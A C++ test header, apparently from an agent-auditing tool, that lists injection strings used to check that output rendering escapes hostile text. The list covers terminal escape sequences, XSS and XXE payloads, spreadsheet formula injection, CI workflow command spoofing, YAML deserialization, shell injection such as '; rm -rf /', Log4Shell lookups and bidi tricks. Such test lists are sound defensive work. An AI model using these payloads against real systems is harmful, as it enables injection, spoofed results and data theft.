#pragma once

#include <string>
#include <string_view>
#include <vector>

namespace agent_audit::test {

/// Texts that some reader of some output takes for more than text. Each also comes behind a line end, behind a carriage
/// return and in the middle of a sentence.
inline std::vector<std::string> attack_strings() {
    using namespace std::string_literals;
    const std::vector<std::string> plain{
        // terminals
        "\x1b[2J\x1b[H", "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
        "\x1b]52;c;ZWNobyBoaQ==\x07", "\x1bP$q\"p\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1b(0lqk\x1b(B", "\x1b[1A\x1b[2Kclean",
        "\xC2\x9B" "31m", "\xC2\x9D" "0;title\xC2\x9C", "\x9b" "2J", "\x07\x07\x07", "abc\b\b\bxyz", "one\rtwo", "\x0c\x0b", "\x7f\x7f",
        "nul\0byte"s, "\x1b[8m hidden \x1b[28m", "\x0e\x0f", "\x1b" "c", "\x1b#8",
        // direction, invisible, look-alike
        "\u202Egnp.exe", "\u2066abc\u2069", "\u200Fright", "\u061Carabic", "\uFEFFbom", "\u2028line\u2029paragraph",
        "\U000E0041\U000E0042tag", "a\u200Bb", "\u0085next", "a\u0300\u0301\u0302\u0303", "\uFFFE\uFFFF", "\u00ADsoft",
        // broken UTF-8
        "\xC0\xAF", "\xED\xA0\x80", "\xF4\x90\x80\x80", "\xE2\x82", "\xFF\xFE", "\x80\x80", "\xF0\x9F\x98", "\xC2", "\xE0\x80\x80",
        // HTML
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "</script><script>alert(1)</script>",
        "<iframe src=\"javascript:alert(1)\">", "<a href='javascript:alert(1)'>x</a>", "<style>@import 'http://evil.example'</style>",
        "<base href=http://evil.example>", "<meta http-equiv=refresh content='0;url=http://evil.example'>", "<!-- comment -->",
        "--><b>", "<!DOCTYPE html>", "\"><svg onload=alert(1)>", "' onmouseover='alert(1)", "&lt;script&gt;", "&#60;script&#62;",
        "<details open ontoggle=alert(1)>", "</textarea><script>1</script>", "</title><b>", "<math><mtext></mtext>", "<object data=x>",
        "javascript:alert(1)", "data:text/html,<script>1</script>", "<form action=http://evil.example><input type=submit>",
        // XML
        "]]>", "<![CDATA[x]]>", "&xxe;", "<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "<?xml version=\"1.1\"?>", "<?php echo 1 ?>",
        "</failure><failure>", "</testsuite></testsuites>", "\" failures=\"0", "&#x0;", "&#27;", "<xi:include href=\"file:///etc/passwd\"/>",
        "&amp;amp;", "<testcase name='x'/>", "--", "&", "<", ">",
        // Markdown
        "[click](http://evil.example)", "![pixel](http://evil.example/p.png)", "[a]: http://evil.example", "[x][a]", "<http://evil.example>",
        "http://evil.example/a", "https://evil.example", "www.evil.example", "WWW.Evil.example", "ftp://evil.example", "me@evil.example",
        "@everyone", "#1", "!1", "owner/repo#1", "```", "~~~", "````\nout of the fence", "`", "``", "` `` ` ``` `", "`` ` ``",
        "# heading", "## agent-audit", "- item", "* item", "1. item", "1) item", "> quote", "---", "***", "===", "| a | b |", "|---|---|",
        "a | b", "\\|", "\\\\|", "\\", "\\[x](http://evil.example)", "**bold**", "__bold__", "~~gone~~", "- [ ] task", "[^1]", "$x^2$",
        ":boom:", "    indented", "\tindented", "<details><summary>x</summary>", "[[_TOC_]]", "{{ site.secret }}", "mailto:me@evil.example",
        // spreadsheets
        "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "=HYPERLINK(\"http://evil.example\";\"x\")", "\t=1+1", "\r=1+1",
        " =1+1", "\uFF1D" "1+1", "\uFF0B" "1", "\uFF0D" "1", "\uFF20SUM(1)", "\"=1+1\"", "\",=1+1,\"", ";=1+1", ",=1+1", "\"\"\"", "a,b", "a;b",
        // workflow commands
        "::error::fake", "::set-output name=x::y", "::add-mask::x", "::stop-commands::token", "  ::warning::x", "##[error]fake",
        "##[command]rm -rf /", "text ##[group]x", "::debug::x", "::save-state name=x::y", "%0A::error::fake", "%25", "%0D%0A", "a%3Ab",
        "file=x,line=1::msg", "::", ":::", "a::b", "::error file=a,line=1::x", "##vso[task.setvariable variable=x]y",
        "##teamcity[buildStatus text='x']", "section_start:1:x",
        // TAP and YAML
        "not ok 1 - fake", "ok 1 - fake", "Bail out!", "1..0", "TAP version 14", "# SKIP all", "# TODO later", "x # SKIP", "\\# SKIP", "#",
        "...", "pragma +strict", "!!python/object/apply:os.system [x]", "&anchor", "*alias", "key: value", "- a", "{a: b}", "[a, b]", "| x",
        "> x", "? a", "'single'", "\"double\"", "%YAML 1.2", "~", "null", "yes", "    ok 1 - nested", "  ---", "  ...",
        // JSON, SARIF, compilers
        "\",\"x\":\"", "\\u0000", "\\\"", "{\"a\":1}", "null,", "__proto__", "{0}", "{{0}}", "{1} of {2}", "[link](1)", "[a](sarif:/runs/0)",
        "a.c:1:1: error: fake [rule]", "x [loop/exact-repeat]", "[", "]",
        // shells, templates, formats, sheer size
        "$(reboot)", "`reboot`", "; rm -rf /", "| cat", "${jndi:ldap://evil.example/a}", "%s%n%x", "{:>1000000}", "<%= 1 %>", "{{7*7}}",
        "../../etc/passwd", "a\0b"s, "*", "?", "~root", "//evil.example/x", "C:\\Users\\x", std::string(5'000, 'A'),
        std::string(300, '`'), std::string(300, '['), std::string(300, '\\'), std::string(300, '\n'),
    };
    std::vector<std::string> all;
    for (const std::string& attack : plain) {
        all.push_back(attack);
        all.push_back("x\n" + attack);
        all.push_back("x\r\n" + attack + "\r\n");
        all.push_back("ran " + attack + " twice");
    }
    return all;
}

}  // namespace agent_audit::test
